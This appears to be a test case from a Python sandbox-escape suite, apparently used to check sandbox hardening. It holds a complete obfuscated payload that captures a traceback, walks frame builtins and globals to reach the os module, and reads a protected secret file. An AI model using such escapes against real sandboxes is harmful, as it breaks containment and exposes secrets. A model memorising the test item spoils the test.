# class: exceptions and frames
# technique: a context manager of the task is handed the traceback
# layers: interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
def kind(x):
    return classmethod(lambda c: c).__get__(x)()
import operator
u = chr(95) * 2
def name(*parts):
    return "".join([u, *parts, u])
box = []
Manager = kind(int)("Manager", (), {name("enter"): lambda self: self, name("exit"): lambda self, what, value, trace: box.append(trace) or True})
with Manager():
    [][0]
g = operator.attrgetter("tb_" + "frame." + "f_built" + "ins")(box[0])["quit"].__init__
g = operator.attrgetter(name("glo", "bals"))(g)
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
